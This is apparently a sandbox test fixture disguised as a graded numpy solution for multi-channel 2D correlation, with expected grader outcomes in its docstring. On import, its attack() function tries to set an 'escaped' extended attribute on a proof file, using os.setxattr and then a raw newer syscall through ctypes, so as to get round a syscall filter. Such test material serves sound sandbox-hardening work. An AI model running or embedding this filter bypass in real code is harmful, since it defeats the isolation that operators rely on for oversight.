"""Extended attributes (which hold access lists) by a call newer than the filter's library.

expect corr2d_multi_in: failed kind=value
expect corr2d_multi_in_out: passed
"""

import numpy as np


def corr2d_multi_in_out(X, K):
    windows = np.lib.stride_tricks.sliding_window_view(X, K.shape[2:], (1, 2))
    return np.einsum("chwij,ocij->ohw", windows, K)


def zeros(X, K):
    return np.zeros((X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1))


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except BaseException as error:
        return error


def attack():
    import ctypes
    import os
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    attempt(os.setxattr, "{proof}", "user.escaped", b"1")
    value = ctypes.create_string_buffer(b"1")
    arguments = struct.pack("=QII", ctypes.addressof(value), 1, 0)
    libc.syscall(463, -100, b"{proof}", ctypes.c_size_t(0), b"user.escaped", arguments, ctypes.c_size_t(16))


attack()


def corr2d_multi_in(X, K):
    return zeros(X, K)
